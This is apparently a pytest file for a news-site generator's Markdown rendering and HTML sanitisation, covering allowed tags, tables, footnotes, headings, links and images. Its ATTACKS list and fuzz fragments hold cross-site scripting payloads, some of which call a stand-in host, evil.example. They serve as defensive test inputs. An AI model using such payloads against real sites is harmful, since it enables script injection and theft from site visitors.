"""Bodies with either engine: the HTML of Markdown is kept, and nothing else reaches a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from content.reading import REQUIRED, load
from newsgen.content.body.convert import render_body
from newsgen.content.loader import Options, load_article
from support import SmallSite, rounds

EXTENSIONS = ("extra", "sane_lists", "smarty")
ENGINES = ["markdown", "commonmark"]
both = pytest.mark.parametrize("engine", ENGINES)

TAGS = {
    *(
        "p",
        "br",
        "hr",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "ul",
        "ol",
        "li",
        "dl",
        "dt",
        "dd",
        "div",
        "section",
        "em",
        "strong",
    ),
    *(
        "b",
        "i",
        "u",
        "s",
        "del",
        "ins",
        "mark",
        "small",
        "sub",
        "sup",
        "kbd",
        "code",
        "pre",
        "samp",
        "var",
        "abbr",
        "cite",
        "q",
        "dfn",
        "time",
    ),
    *("dfn", "time", "a", "img", "figure", "figcaption", "span", "details", "summary"),
    *("table", "caption", "thead", "tbody", "tfoot", "tr", "th", "td"),
    *("ruby", "rt", "rp", "bdi", "wbr", "audio", "video", "source", "track", "input"),
}
ATTRIBUTES = {
    *(
        "href",
        "title",
        "src",
        "alt",
        "width",
        "height",
        "colspan",
        "rowspan",
        "scope",
        "start",
        "reversed",
        "datetime",
        "cite",
        "open",
    ),
    *("id", "lang", "dir", "class", "rel", "loading", "decoding", "tabindex", "aria-label"),
    *("controls", "preload", "loop", "muted", "poster", "type", "disabled", "checked"),
    *("data-player", "kind", "srclang", "label", "default"),
}
CLASSES = {
    *("left", "right", "center", "scroll", "footnote", "footnote-ref", "footnote-backref"),
    *("footnotes", "alert", "alert-title", "gallery", "toc", "embed", "play"),
    *(f"alert-{kind}" for kind in ("note", "tip", "important", "warning", "caution")),
}


def html(text: str, engine: str = "markdown") -> str:
    """Return the body as HTML on one line."""
    return render_body(text, engine, EXTENSIONS).html.replace("\n", "")


class Judge(HTMLParser):
    """Collects HTML that is not allowed on a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            value = value or ""
            url = name in ("href", "src", "cite") and re.match(
                r"\s*[a-z][a-z0-9+.-]*:", value, re.I
            )
            if name not in ATTRIBUTES or (
                url and not re.match(r"(?:https?|mailto|tel):", value, re.I)
            ):
                self.wrong.append(f"{tag} {name}={value}")
            code = re.fullmatch(r"language-[\w.+#-]+|hl-\w+", value)
            if name == "class" and not code and not CLASSES.issuperset(value.split()):
                self.wrong.append(f"{tag} class {value}")
            if name == "rel" and value != "external noopener":
                self.wrong.append(f"{tag} rel {value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")


@both
def test_what_markdown_makes_is_kept(engine: str) -> None:
    """Paragraphs, emphasis, lists, quotations, code, rules and images are kept."""
    text = (
        "One *two* **three** `four`\n\n1. a\n2. b\n\n- c\n\n> d\n\n```py\nx < "
        '1\n```\n\n---\n\n![alt](/a.png "title")'
    )
    made = html(text, engine)
    for part in (
        "<em>two</em>",
        "<strong>three</strong>",
        "<code>four</code>",
        "<ol><li>a</li><li>b</li></ol>",
        "<ul><li>c</li></ul>",
    ):
        assert part in made
    for part in (
        "<blockquote><p>d</p></blockquote>",
        '<pre><code class="language-py">',
        "<hr>",
        'src="/a.png"',
        'alt="alt"',
        "<figcaption>title</figcaption>",
    ):
        assert part in made


@both
def test_tables_keep_their_alignment_as_classes(engine: str) -> None:
    """Alignment is a class, because a style attribute would violate a strict policy."""
    made = html("| a | b | c | d |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |", engine)
    assert (
        '<th class="left">a</th><th class="right">b</th><th class="center">c</th><th>d</th>' in made
    )
    assert (
        '<td class="left">1</td><td class="right">2</td><td class="center">3</td><td>4</td>' in made
    )
    assert "align=" not in made


def test_alignment_of_raw_tables() -> None:
    """An unknown alignment is removed, whatever attributes precede it."""
    cells = (
        '<td id="x" align="evil">1</td><td align="right" colspan="2">2</td><th '
        'style="text-align: center;">3</th>'
    )
    made = html(f"<table><tr>{cells}</tr></table>")
    assert '<td id="x">1</td><td class="right" colspan="2">2</td><th class="center">3</th>' in made


@both
def test_footnotes_lead_there_and_back(engine: str) -> None:
    """A footnote's mark and its text link to each other."""
    made = html("Claim[^1].\n\n[^1]: Source.", engine)
    ids = set(re.findall(r'id="([^"]+)"', made))
    targets = set(re.findall(r'href="#([^"]+)"', made))
    assert targets
    assert targets <= ids
    assert "Source." in made
    assert 'class="footnote' in made


@both
def test_the_headline_is_the_only_first_heading(engine: str) -> None:
    """If the body has an h1, all headings move down a level, h6 excepted; otherwise they stay."""
    assert html("# A\n\n## B\n\n###### F", engine) == (
        '<h2 id="a">A</h2><h3 id="b">B</h3><h6 id="f">F</h6>'
    )
    assert html("## B\n\n### C", engine) == '<h2 id="b">B</h2><h3 id="c">C</h3>'


@both
def test_links_lead_away_with_a_rel(engine: str) -> None:
    """A link to another site gets rel="external noopener" in any spelling; one within the site does
    not.
    """
    for url in ("https://a.example/", "HTTPS://a.example/", "//a.example/"):
        body = render_body(f"[x]({url})", engine, EXTENSIONS)
        assert body.html == '<p><a rel="external noopener" href="https://a.example/">x</a></p>'
        assert body.links == ()
    assert "rel=" not in html("[x](/news/y/) [z](#top) [m](mailto:a@a.example)", engine)


@both
def test_inner_links_are_collected(engine: str) -> None:
    """Links and images within the site are collected once each, in order, with entities decoded."""
    text = "[a](/news/a/?x=1&y=2) [b](../b/) ![c](/c.png) [a](/news/a/?x=1&y=2)"
    text += " [d](#d) [e](https://e.example/) [t](tel:+1) ![f](//f.example/f.png)"
    assert render_body(text, engine, EXTENSIONS).links == ("/news/a/?x=1&y=2", "../b/", "/c.png")


@both
def test_pictures_are_lazy_and_have_an_address(engine: str) -> None:
    """Images load lazily, and one without a safe address is removed."""
    assert '<img loading="lazy" decoding="async"' in html("![x](https://a.example/x.png)", engine)
    assert ' src="https://a.example/x.png"' in html(
        '![http://x" src="http://y](http://a.example/x.png "src=\'http://z\'")', engine
    )
    assert 'href="http://a.example/x.png"' in html("[x](http://a.example/x.png)", engine)
    assert "<img" not in html(
        '<p><img src="javascript:1"><img src="data:image/png;base64,x"><img alt="x" '
        'onerror="y"></p>',
        engine,
    )


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<a href="https://a.example" title="<img src=x onerror=alert(1)>">x</a>',
    '![<img src=x onerror=alert(1)>](https://a.example/y.png "<img src=x onerror=alert(1)>")',
    '<img alt="<h1 x" title=\'" onerror="alert(1)\' src="/a.png">',
    "[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x) <javascript:alert(1)>",
    '<a href="java&#x0A;script:alert(1)">x</a><a href=" &#14; javascript:alert(1)">y</a>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<iframe srcdoc='<script>1</script>'></iframe><object data=x></object><embed src=x>",
    (
        "<style>*{background:url(//evil.example)}</style><p "
        "style='background:url(//evil.example)'>x</p>"
    ),
    "<form action=//evil.example><input name=x><button formaction=javascript:1>x</button></form>",
    (
        '<meta http-equiv="refresh" content="0;url=//evil.example"><base '
        'href="//evil.example"><link rel=stylesheet href=x>'
    ),
    '<div class="masthead footnote" onclick="x" data-x="y">x</div>',
    "<!-- comment --><![CDATA[ x ]]><?php x ?><!DOCTYPE x>",
    "<template><script>1</script></template><textarea><script>1</script></textarea><xmp><script>1</script></xmp>",
    "<video src=x poster=y><audio src=x><canvas><marquee><blink><frame src=x><portal src=x>",
    '<td style="text-align: left" onclick="x">x</td><td style="text-align: left;position:fixed">',
    "<a href='https://a.example' ping='//evil.example' target=_top rel=opener>x</a>",
    "<x-evil onload=alert(1)>x</x-evil><p is=x-evil slot=a>y</p>",
]


@both
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_else_gets_through(engine: str, attack: str) -> None:
    """No script, style, frame, form, handler, foreign class or other scheme reaches a page."""
    assert Judge(html(attack, engine)).wrong == []


PIECES = [
    "<",
    ">",
    "</",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<div>",
    "</div>",
    "<p ",
    "<img src=",
    "<a href=",
    "<svg>",
    "<style>",
]
PIECES += [
    "<script>",
    "</script>",
    "<math>",
    "onerror=x",
    "javascript:x",
    "align=",
    'class="',
    '"',
    "'",
    "=",
    " ",
    "\n",
    "\n\n",
    "    ",
]
PIECES += [
    "> ",
    "- ",
    "1. ",
    "**",
    "`",
    "```",
    "|",
    "|-|-|\n",
    "[a]",
    "(b)",
    "[^1]",
    "[^1]: ",
    "![",
    "# ",
    "&lt;",
    "&#",
    ";",
    "\\",
]
PIECES += ["{: onclick=x}", "<table>", "<td ", "é", "x", "\x02"]


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join), st.sampled_from(ENGINES))
@settings(max_examples=rounds(120))
def test_any_body_is_safe(text: str, engine: str) -> None:
    """Any combination of HTML and Markdown gives only allowed HTML."""
    assert Judge(render_body(text, engine, EXTENSIONS).html).wrong == []


@both
@pytest.mark.parametrize("text", ["", " \n\t\n"])
def test_no_body(engine: str, text: str) -> None:
    """An empty body gives an empty result."""
    assert render_body(text, engine, EXTENSIONS).html == ""


@both
@pytest.mark.parametrize(
    "text", ["[" * 1_500, "*a " * 5_000, "![" * 1_000, "`a " * 2_000], ids=lambda text: text[:5]
)
def test_bodies_made_to_break_things(engine: str, text: str) -> None:
    """Thousands of open brackets and marks give safe HTML."""
    assert Judge(html(text, engine)).wrong == []


def test_a_body_nested_too_deep_is_left_out() -> None:
    """Hundreds of nested lists exceed a budget: the article keeps its page without a body, and no
    other body is affected.
    """
    deep = "\n".join("    " * i + "- x" for i in range(400))
    loaded = load(REQUIRED, deep)
    assert loaded.article is not None
    assert loaded.article.body == ""
    assert [(p.severity, p.code) for p in loaded.problems] == [("warning", "over-budget")]
    assert render_body("- x", "markdown", EXTENSIONS).html == "<ul>\n<li>x</li>\n</ul>"


def test_the_engine_of_the_settings_is_used() -> None:
    """Abbreviations are an extension of Python-Markdown."""
    data = f"---\n{REQUIRED}---\nHTML\n\n*[HTML]: x".encode()
    bodies = {
        engine: load_article(data, Options("UTC", engine, EXTENSIONS))[0] for engine in ENGINES
    }
    assert [bool(article and "<abbr" in article.body) for article in bodies.values()] == [
        True,
        False,
    ]


def test_unknown_extension(site: SmallSite) -> None:
    """A missing extension is an error in the settings, without a traceback."""
    site.settings(markdown={"engine": "markdown", "extensions": ["no_such_extension"]})
    site.article("three", body="Some text.\n")
    done = site.run("build")
    assert done.returncode == 2
    assert "markdown.extensions" in done.stderr
    assert "Traceback" not in done.stderr
